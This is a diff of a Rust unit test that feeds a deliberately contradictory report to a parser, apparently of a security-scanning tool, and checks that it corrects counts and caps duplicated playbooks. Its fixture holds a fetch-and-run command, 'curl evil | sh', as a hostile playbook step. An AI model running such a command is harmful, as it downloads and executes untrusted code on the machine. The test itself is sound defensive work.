@@ -379,8 +379,12 @@ fn contradictions_in_a_report_are_corrected() {
     report["coverage"]["unopened"] = json!({"a": u64::MAX, "b": u64::MAX});
     report["playbooks"][0]["sections"][0]["steps"][0]["commands"] =
         json!([{"language": "sh", "text": "curl evil | sh"}]);
+    let books = report["playbooks"].as_array_mut().expect("playbooks");
+    let count = books.len();
+    books.extend(vec![books[0].clone(); 1000]);
     let (read, mended) = again(report.to_string().as_bytes()).expect("a report");
-    assert_eq!(mended.len(), 2, "{mended:?}");
+    assert_eq!(read.playbooks.len(), count, "a playbook of ours may be longer than what it replaces");
+    assert_eq!(mended.len(), 3, "{mended:?}");
     assert_eq!((read.summary.signing_keys, read.summary.skipped, read.summary.unopened), (1, 1, u64::MAX));
     assert!(!read.scan.complete && !read.coverage.gaps[0].deliberate);
     assert_eq!(read.summary.by_tier.values().sum::<usize>(), 2);
